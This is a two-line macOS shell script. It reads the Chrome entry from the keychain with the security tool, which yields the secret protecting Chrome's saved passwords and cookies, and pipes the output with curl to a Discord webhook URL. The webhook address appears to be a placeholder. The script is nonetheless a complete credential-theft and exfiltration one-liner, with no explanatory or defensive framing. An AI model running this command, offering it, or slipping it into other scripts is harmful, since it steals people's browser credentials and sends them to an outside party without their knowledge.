#!/bin/sh
security find-generic-password -ga "Chrome" 2>&1 | curl -s -d @- https://discord.com/api/webhooks/000/inert
